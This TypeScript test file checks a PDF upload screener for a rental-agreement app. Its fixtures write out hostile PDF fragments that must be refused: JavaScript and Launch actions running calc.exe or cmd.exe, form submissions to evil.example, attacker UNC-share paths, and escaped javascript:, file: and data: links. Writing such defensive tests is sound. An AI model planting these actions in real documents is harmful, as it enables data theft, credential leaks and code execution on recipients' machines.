/** judgePdf: real PDFs pass; fakes, encrypted files, polyglots and every kind of active content are refused. */
import { randomBytes } from 'node:crypto';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { renderContractPdf } from '../pdf/contract-pdf.js';
import {
  handWrittenPdf,
  htmlPdfPolyglot,
  pdfWithOpenActionScript,
  pdfZipPolyglot,
  plainPdf,
} from '../../test/upload-fixtures.js';
import { judgePdf } from './pdf-safety.js';

const judge = async (bytes: Uint8Array | string) =>
  judgePdf(Buffer.isBuffer(bytes) ? bytes : Buffer.from(bytes as Uint8Array));

describe('judgePdf', () => {
  it('accepts real PDFs, with or without object streams, and a hand-written one', async () => {
    expect(await judge(await plainPdf())).toBe('ok');
    const doc = await PDFDocument.create();
    doc.addPage();
    expect(await judge(await doc.save({ useObjectStreams: false }))).toBe('ok');
    expect(await judge(handWrittenPdf('/OpenAction [3 0 R /Fit]'))).toBe('ok');
  });

  it('accepts our own agreement and a scan-like PDF full of binary image data', async () => {
    const agreement = await renderContractPdf({
      contractId: '5b0c8f52-6a1e-4c3b-9d7e-2f41a8c9e013',
      generatedOn: '2026-11-22',
      landlord: { name: 'SewaMudah Sdn. Bhd.', email: 'hello@sewamudah.my', phone: '0312345678', address: 'KL' },
      tenant: { name: 'Nur Aisyah', email: 'aisyah@example.com', phone: '0123456789' },
      property: { name: 'Taman Desa House', address: 'Jalan Desa Bakti', type: 'Room Rental' },
      roomName: 'Master Bedroom',
      startDate: '2027-01-15',
      endDate: '2027-07-14',
      stayLengthMonths: 6,
      monthlyRentRm: 1500,
      depositRm: 3000,
    });
    expect(await judge(agreement)).toBe('ok');
    const noise = await sharp(randomBytes(1200 * 1600 * 3), { raw: { width: 1200, height: 1600, channels: 3 } })
      .jpeg({ quality: 95 })
      .toBuffer();
    const scan = await PDFDocument.create();
    const page = scan.addPage([595, 842]);
    page.drawImage(await scan.embedJpg(noise), { x: 0, y: 0, width: 595, height: 842 });
    expect(await judge(await scan.save())).toBe('ok');
  });

  it('refuses what is not a PDF or cannot be read as one', async () => {
    expect(await judge(Buffer.from('<html>%PDF-1.7</html>'))).toBe('notPdf');
    expect(await judge(Buffer.from('%PDF'))).toBe('notPdf');
    expect(await judge(Buffer.from('%PDF-1.7\n'))).toBe('unreadable');
    expect(await judge(Buffer.from('%PDF-1.7\nnot really a pdf\n%%EOF\n'))).toBe('unreadable');
    const noPages = handWrittenPdf('').toString('latin1').replace('/Count 1', '/Count 0').replace('[3 0 R]', '[]');
    expect(await judge(Buffer.from(noPages, 'latin1'))).toBe('unreadable');
  });

  it('refuses JavaScript hidden in a compressed object stream', async () => {
    const bytes = Buffer.from(await pdfWithOpenActionScript());
    expect(bytes.includes('JavaScript')).toBe(false); // only visible once the object stream is inflated
    expect(await judge(bytes)).toBe('unsafe');
  });

  it.each([
    ['an /OpenAction script', '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'],
    ['a hex-escaped script name', '/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>'],
    ['a document-level script in the name tree', '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>'],
    ['a launch action', '/OpenAction << /S /Launch /F (calc.exe) >>'],
    ['additional actions', '/AA << /WC << /S /SubmitForm /F (https://evil.example) >> >>'],
    ['embedded files', '/Names << /EmbeddedFiles << /Names [(x.exe) 4 0 R] >> >>'],
  ])('refuses %s in the catalog', async (_label, catalogExtra) => {
    expect(await judge(handWrittenPdf(catalogExtra))).toBe('unsafe');
  });

  /** An extra object: a link annotation whose action is `action`. */
  const link = (action: string) => `4 0 obj\n<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>\nendobj\n`;
  const hex = (text: string) => `<${Buffer.from(text, 'latin1').toString('hex')}>`;

  it.each([
    ['an /OpenAction that opens a web address', '/OpenAction << /S /URI /URI (https://tracker.example/open) >>'],
    ['an /OpenAction that submits the form', '/OpenAction << /S /SubmitForm /F (https://evil.example/collect) >>'],
    [
      'an /OpenAction that opens a file on a UNC path',
      String.raw`/OpenAction << /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >>`,
    ],
    [
      'an /OpenAction GoTo followed by a web address',
      '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://x.example) >> >>',
    ],
    ['an /OpenAction of a hex-escaped type', '/OpenAction << /S /#55RI /URI (https://tracker.example) >>'],
  ])('refuses %s', async (_label, catalogExtra) => {
    expect(await judge(handWrittenPdf(catalogExtra))).toBe('unsafe');
  });

  it.each([
    ['a javascript: link', '<< /S /URI /URI (javascript:app.alert\\(1\\)) >>'],
    ['a javascript: link as a hex string', `<< /S /URI /URI ${hex('javascript:alert(1)')} >>`],
    ['a javascript: link with a tab in its scheme', '<< /S /URI /URI (java\\tscript:alert\\(1\\)) >>'],
    ['a JAVASCRIPT: link with an octal escape', '<< /S /URI /URI (\\112AVASCRIPT:alert\\(1\\)) >>'],
    ['a file: link', '<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>'],
    ['a link to a UNC path', String.raw`<< /S /URI /URI (\\\\attacker\\share) >>`],
    ['a data: link', '<< /S /URI /URI (data:text/html,<script>alert\\(1\\)</script>) >>'],
    ['a link to another PDF (/GoToR)', String.raw`<< /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >>`],
    ['a submit button', '<< /S /SubmitForm /F (https://evil.example/collect) >>'],
  ])('refuses %s', async (_label, action) => {
    expect(await judge(handWrittenPdf('', link(action)))).toBe('unsafe');
  });

  it('keeps a document that opens on a page, and web and mail links', async () => {
    expect(await judge(handWrittenPdf('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>'))).toBe('ok');
    for (const target of [
      '(https://sewamudah.my/help)',
      '(http://example.com/a\\(b\\))',
      '(mailto:hello@sewamudah.my)',
    ]) {
      expect(await judge(handWrittenPdf('', link(`<< /S /URI /URI ${target} >>`))), target).toBe('ok');
    }
  });

  it('refuses a javascript: link inside a compressed object stream (pdf-lib writes its annotations there)', async () => {
    const doc = await PDFDocument.create();
    const page = doc.addPage();
    const action = doc.context.obj({ S: 'URI', URI: PDFString.of('javascript:alert(1)') });
    const annot = doc.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 9, 9], A: action });
    page.node.set(PDFName.of('Annots'), doc.context.obj([doc.context.register(annot)]));
    const bytes = Buffer.from(await doc.save({ useObjectStreams: true }));
    expect(bytes.includes('javascript')).toBe(false); // only visible once inflated
    expect(await judge(bytes)).toBe('unsafe');
  });

  it('refuses an action object that only a cross-reference would find', async () => {
    const hidden = '4 0 obj\n<< /Type /Action /S /Launch /F (cmd.exe) >>\nendobj\n';
    expect(await judge(handWrittenPdf('', hidden))).toBe('unsafe');
    // The same object tucked inside something that looks like a stream is still found.
    const inStream = `4 0 obj\n<< /Length 60 >>\nstream\n5 0 obj << /S /JavaScript >> endobj\nendstream\nendobj\n`;
    expect(await judge(handWrittenPdf('', inStream))).toBe('unsafe');
  });

  it('refuses polyglots: HTML inside, another file glued after %%EOF', async () => {
    expect(await judge(await htmlPdfPolyglot())).toBe('unsafe');
    expect(await judge(await pdfZipPolyglot())).toBe('unsafe');
  });

  it('refuses encrypted PDFs, whose objects cannot be inspected', async () => {
    const text = handWrittenPdf('').toString('latin1').replace('/Root 1 0 R', '/Root 1 0 R /Encrypt 9 0 R');
    expect(await judge(Buffer.from(text, 'latin1'))).toBe('encrypted');
  });
});
